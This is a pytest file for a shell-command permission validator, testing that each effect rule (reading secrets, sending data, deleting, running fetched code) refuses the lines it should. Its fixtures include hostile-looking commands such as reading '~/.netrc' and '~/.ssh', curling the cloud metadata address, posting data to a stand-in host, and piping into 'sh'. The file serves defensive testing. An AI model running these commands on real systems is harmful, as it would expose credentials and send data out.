"""What is said of each kind of effect, and that each rule is needed: without it a line passes that is refused with it."""

from __future__ import annotations

from typing import Any

import pytest

from gatewright.validators.sandbox import prepare
from gatewright.validators.shell import policy
from gatewright.validators.shell.effects import Effect
from gatewright.validators.shell.line_state import Said
from gatewright.validators.shell.places import HERE, Path, resolve
from gatewright.validators.shell.policy import rule_of

READING = Said(frozenset(), writes=False)
WORKING = Said(frozenset({"network", "environment", "endless"}), writes=True)

NEEDED = {
    "reads": ("inspect", "cat ~/.netrc"),
    "reads_below": ("inspect", "grep -r key ~"),
    "lists": ("inspect", "ls ~/.ssh"),
    "lists_below": ("inspect", "ls -R ~"),
    "names": ("inspect", "find . -name id_rsa"),
    "writes": ("inspect", "sort -o b a"),
    "deletes": ("develop", "rm /srv/x"),
    "deletes_below": ("develop", "rm -rf /srv/x"),
    "run": ("develop", "/srv/x"),
    "runs": ("inspect", "sort --compress-program=sh a"),
    "code": ("develop", "echo id | sh"),
    "project": ("inspect", "kill 5"),
    "writes_here": ("inspect", "git restore --staged a"),
    "unpacks": ("inspect", "unzip a.zip"),
    "enters": ("develop", "docker build /srv/x"),
    "repository": ("inspect", "cd /tmp/evil && git status"),
    "network": ("inspect", "npm view x"),
    "host": ("develop", "curl http://169.254.169.254/"),
    "environment": ("inspect", "env"),
    "endless": ("inspect", "tail -f a"),
    "sends": ("develop", "curl -d a https://x.example/"),
    "secrets": ("develop", ""),
    "settings": ("develop", "git -c core.pager=x log"),
    "publishes": ("develop", ""),
    "fetches": ("develop", ""),
    "package": ("develop", "npm i github:a/b"),
    "module": ("develop", "go get ../x"),
    "target": ("develop", "mvn deploy"),
    "variable": ("develop", "PATH=. ls"),
    "setting": ("develop", "make CC=../x"),
    "argument": ("develop", "./x ~/.netrc"),
    "unseen": ("develop", ""),
    "acts": ("inspect and ask", "docker rm web"),
    "starts": ("develop", ""),
    "text": ("develop", "go install x.example/a@latest"),
    "value": ("develop", "cmake -DX=/tmp/x -B build"),
}
"""Kind of an effect → a preset and a line that it alone refuses; empty where no entry of the table leads there yet."""


@pytest.mark.parametrize("kind", policy.JUDGES)
def test_each_rule_is_needed(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """MGP-4.5"""
    preset, line = NEEDED[kind]
    judge = prepare({"allow": ["inspect", "network"] if " " in preset else [preset]})
    if line:
        assert judge.judge(line) is not None
    without: dict[str, Any] = {**policy.JUDGES, kind: lambda effect, said: None}
    monkeypatch.setattr(policy, "JUDGES", without)
    if line:
        assert judge.judge(line) is None
    else:
        assert rule_of(Effect(kind), WORKING) is None


def test_what_nothing_is_said_of_is_refused() -> None:
    assert rule_of(Effect("magic"), WORKING) == "option"


@pytest.mark.parametrize("kind", ["secrets", "publishes", "unseen", "sends"])
def test_what_is_refused_whatever_else(kind: str) -> None:
    assert rule_of(Effect(kind), WORKING) is not None
    assert rule_of(Effect(kind), READING) is not None


@pytest.mark.parametrize("kind", ["writes", "deletes", "run", "runs", "code", "project", "writes_here", "unpacks", "fetches", "module", "setting"])  # fmt: skip
def test_inspection_changes_and_runs_nothing(kind: str) -> None:
    assert rule_of(Effect(kind, HERE, "x", "-o", "p"), READING) is not None


@pytest.mark.parametrize("kind", ["network", "environment", "endless"])
def test_a_capability_is_granted(kind: str) -> None:
    assert rule_of(Effect(kind), READING) == kind
    assert rule_of(Effect(kind), WORKING) is None


@pytest.mark.parametrize(
    ("path", "listed", "rule"),
    [
        ("a", "", None),
        ("/tmp/x", "", None),
        (".", "", "recursive_delete"),
        ("*", "", "recursive_delete"),
        ("?*", "", "recursive_delete"),
        ("*/*", "", "recursive_delete"),
        ("[a-z]*", "", "host_file"),
        ("*", "all", "recursive_delete"),
        ("*", "some", None),
        ("*.pyc", "", None),
        ("dist/*", "", None),
        ("/srv/x", "", "outside"),
        (".git/x", "", "outside"),
        (".env", "", "host_file"),
    ],
)
def test_all_is_not_deleted(path: str, listed: str, rule: str | None) -> None:
    found = resolve(HERE, path, glob="*" in path)
    assert rule_of(Effect("deletes", found, path, "operand", "rm", listed), WORKING) == rule


def test_after_what_was_fetched_no_code_runs() -> None:
    tainted = WORKING._replace(tainted=True)
    assert rule_of(Effect("project", HERE), tainted) == "program_name"
    assert rule_of(Effect("run", Path("", ("x",))), tainted) == "program_name"
    assert rule_of(Effect("run", Path("", ("x",))), WORKING) is None
    made = WORKING._replace(made=frozenset({("x",)}))
    assert rule_of(Effect("run", Path("", ("x",))), made) == "program_name"


def test_to_this_machine_something_is_sent() -> None:
    assert rule_of(Effect("sends"), WORKING._replace(local=True)) is None
    assert rule_of(Effect("sends"), READING._replace(local=True)) == "sends_away"


def test_the_name_of_a_refusal_says_where_it_comes_from() -> None:
    assert rule_of(Effect("writes", HERE, "x", "-o", "sort"), READING) == "option"
    assert rule_of(Effect("writes", HERE, "x", "operand", "rm"), READING) == "unknown_program"
    assert rule_of(Effect("writes", HERE, "x", "operand", "git rm"), READING) == "subcommand"
    assert rule_of(Effect("writes", HERE, "x", "redirect", "r"), READING) == "file_redirect"
